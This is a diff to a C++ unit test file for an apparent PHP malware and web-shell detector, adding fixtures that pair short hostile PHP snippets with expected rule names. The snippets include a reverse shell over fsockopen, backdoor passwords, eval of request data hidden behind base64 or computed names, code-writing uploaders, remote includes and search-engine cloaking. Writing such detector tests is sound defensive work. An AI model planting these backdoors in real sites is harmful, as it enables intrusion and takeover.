@@ -19,6 +19,7 @@ void expect_all(std::span<const Fixture> fixtures) {
     EXPECT_NE(find(analysis, fixture.rule, fixture.level), nullptr) << fixture.what << "\n"
                                                                     << listed(analysis);
     EXPECT_FALSE(analysis.hit_limit) << fixture.what;
+    EXPECT_TRUE(test::misses_nothing(fixture.code)) << fixture.what;
   }
 }
 
@@ -91,6 +92,103 @@ TEST(Analysis, SeesWhatIntrudersLeave) {
       {"a name put together in a loop",
        "<?php $f = ''; foreach ([1, 2] as $i) { $f .= 'ab' . chr($i); } $f .= 'x'; $f($_POST['c']);",
        "php-computed-call", Level::suspicious},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesWhatShellsBringAlong) {
+  constexpr Fixture kFixtures[] = {
+      {"a password of its own",
+       "<?php $p = '5f4dcc3b5aa765d61d8327deb882cf99'; if (md5($_POST['p']) == $p) { echo 'in'; }",
+       "php-own-password", Level::suspicious},
+      {"a password of its own, in clear",
+       "<?php if ($_REQUEST['p'] == '5f4dcc3b5aa765d61d8327deb882cf99') echo 'in';", "php-own-password",
+       Level::suspicious},
+      {"a shell for the other end",
+       "<?php $s = fsockopen($h, $p); $sh = 'export A=b;/bin/sh -i'; proc_open($sh, $d, $pipes);",
+       "php-remote-shell"},
+      {"a page hidden in a text",
+       "<?php fwrite(fopen('/var/www/o.htm', 'w'), "
+       "base64_decode('PGh0bWw+PGgxPm1hcmtlcjwvaDE+PC9odG1sPg=='));",
+       "php-hidden-write", Level::suspicious},
+      {"any file, shown", "<?php readfile($_GET['f']);", "php-request-to-file", Level::suspicious},
+      {"any file, by a handle", "<?php $n = $_GET['f']; $h = fopen($n, 'rb'); fpassthru($h);",
+       "php-request-to-file", Level::suspicious},
+      {"any file, opened up", "<?php chmod(stripslashes($_GET['p']), 0777);", "php-request-to-file",
+       Level::suspicious},
+      {"packets to anybody", "<?php $h = $_GET['h']; $f = fsockopen('udp://' . $h, 80); fwrite($f, $x);",
+       "php-flood", Level::suspicious},
+      {"a style sheet that calls",
+       "<?php $x = '<x:value-of select=\"z:function(\\'assert\\',string(.))\"/>'; $p = new XSLTProcessor(); "
+       "$p->registerPHPFunctions();",
+       "php-executing-callback", Level::suspicious},
+      {"code behind a tag", "<?php file_put_contents('code.php', '<?php ' . $_REQUEST['c'] . ' ?>');",
+       "php-request-to-written-code"},
+      {"code among code", "<?php fputs(fopen('c.php', 'w'), \"<? eval($_POST[c]);?>\");",
+       "php-request-to-written-code"},
+      {"short tags in what is written",
+       "<?php fputs(fopen('c.php', 'w'), pack('H*', "
+       "'3c3f406576616c28245f504f53545b315d293f3e'));",
+       "php-request-to-eval"},
+      {"any name for any content",
+       "<?php foreach (scandir('.') as $f) file_put_contents(getcwd() . '/' . $f . '/' . $_POST['n'], "
+       "$_POST['c']);",
+       "php-request-to-written-code", Level::suspicious},
+      {"an uploader that asks only whether it is an upload",
+       "<?php if (is_uploaded_file($_FILES['f']['tmp_name'])) move_uploaded_file($_FILES['f']['tmp_name'], "
+       "$_FILES['f']['name']);",
+       "php-request-to-written-code"},
+      {"logs in whoever comes",
+       "<?php foreach ($ids as $id) { if (user_can($id, 'administrator')) { wp_set_auth_cookie($id); } }",
+       "php-account-made", Level::suspicious},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, FollowsDataThroughReferencesAndCallbacks) {
+  constexpr Fixture kFixtures[] = {
+      {"by reference", "<?php function f(&$v) { $v = $v . 't'; } $a = 'asser'; f($a); $a($_POST['c']);",
+       "php-request-to-eval"},
+      {"decoded by reference",
+       "<?php function f(&$v) { $v = base64_decode($v); } $s = 'ZXZhbCgkX1BPU1RbMV0pOw=='; f($s); "
+       "preg_replace('/a/e', '@' . $s, 'a');",
+       "php-request-to-eval"},
+      {"each element",
+       "<?php function f($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = array('ass' => 'ert'); "
+       "array_walk($a, 'f');",
+       "php-request-to-eval"},
+      {"eval under the name of a function",
+       "<?php new CallbackFilterIterator(new ArrayIterator(array($_REQUEST['p'])), create_function('$a', "
+       "'assert($a);'));",
+       "php-executing-callback"},
+      {"appended in a loop", "<?php $s = ''; foreach (array($_GET['i']) as $v) { $s .= $v; } ob_start($s);",
+       "php-request-to-callback", Level::suspicious},
+      {"a name that cannot be read, as a callback",
+       "<?php $f = substr(__FILE__, -5, 1) . 'x' ^ hex2bin('1210'); "
+       "array_intersect_uassoc(array($_REQUEST['p'] "
+       "=> ''), array(1), $f);",
+       "php-computed-call", Level::suspicious},
+      {"a function that nothing sets", "<?php $x($_POST['w']);", "php-unset-executed", Level::suspicious},
+      {"a function named by a file", "<?php file_get_contents('php' . $q)($_GET[2]);", "php-computed-call",
+       Level::suspicious},
+      {"a copy of $_SERVER", "<?php $r = $_SERVER; eval(base64_decode($r['HTTP_REFERER']));",
+       "php-request-to-eval"},
+      {"variables around a layer",
+       "<?php $d = 'ZXZhbCgkX1BPU1RbMV0pOw=='; eval(base64_decode('ZXZhbChiYXNlNjRfZGVjb2RlKCRkKSk7'));",
+       "php-request-to-eval"},
+      {"request data around a layer", "<?php $c = $_POST['c']; eval(base64_decode('ZXZhbCgkYyk7'));",
+       "php-request-to-eval"},
+      {"a comment within the name", "<?php @eval($/*a*/{'_P'.'OST'}['op']);", "php-request-to-eval"},
+      {"superglobals by a list",
+       "<?php foreach (array('_POST', '_GET') as $r) foreach ($$r as $k => $v) $$k = $v; eval($v);",
+       "php-request-to-eval"},
+      {"in a picture, twice",
+       "<?php $x = exif_read_data('a.jpg'); preg_replace($x['Model'], $x['Make'], '');",
+       "php-neighbour-executed"},
+      {"cloaked, through a function",
+       "<?php function get($u) { $c = curl_init($u); return curl_exec($c); } if (preg_match('/Googlebot/', "
+       "$_SERVER['HTTP_USER_AGENT'])) { echo get('http://x.invalid/'); }",
+       "php-cloaked-content", Level::suspicious},
   };
   expect_all(kFixtures);
 }
@@ -270,7 +368,7 @@ TEST(Analysis, SeesCodeFromElsewhere) {
       {"curl", "<?php $c = curl_init('x'); eval('?>' . curl_exec($c));", "php-remote-code"},
       {"included", "<?php include 'https://198.51.100.1/x';", "php-remote-code"},
       {"own bytes", "<?php $d = file_get_contents(__FILE__); eval(gzinflate(substr($d, 200)));",
-       "php-own-bytes-executed"},
+       "php-own-bytes-executed", Level::suspicious},
       {"own data",
        "<?php $h = fopen(__FILE__, 'r'); fseek($h, __COMPILER_HALT_OFFSET__); eval(fread($h, 999)); "
        "__halt_compiler();x",
